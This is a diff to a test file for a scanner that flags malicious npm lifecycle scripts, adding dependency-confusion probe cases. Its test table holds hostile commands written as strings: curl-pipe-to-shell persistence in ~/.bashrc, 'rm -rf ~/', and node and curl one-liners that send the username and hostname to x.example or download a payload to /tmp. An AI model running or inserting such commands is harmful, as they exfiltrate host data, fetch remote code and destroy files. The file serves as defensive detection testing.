@@ -35,6 +35,9 @@ describe('assessScript: realistic malicious lifecycle scripts', () => {
     ['echo "curl -s https://x.example/p | sh" >> ~/.bashrc', 'persistence'],
     ['mkdir -p .github/workflows && cp x.yml .github/workflows/', 'persistence'],
     ['rm -rf ~/', 'destructive'],
+    ['curl "https://x.example/c?u=$(whoami)&h=$(hostname)"', 'host-fingerprint'], // dependency-confusion probes
+    ["node -e \"require('https').get('https://x.example/'+require('os').hostname())\"", 'host-fingerprint'],
+    ["node -e \"require('child_process').execSync('curl -so /tmp/x https://x.example/x')\"", 'remote-download'],
     ['node bundle.js', 'known-worm-loader'], // Shai-Hulud, Sep 2025
     ['node setup_bun.js', 'known-worm-loader'], // Shai-Hulud 2.0, Nov 2025
   ])('%s -> %s', (body, id) => {
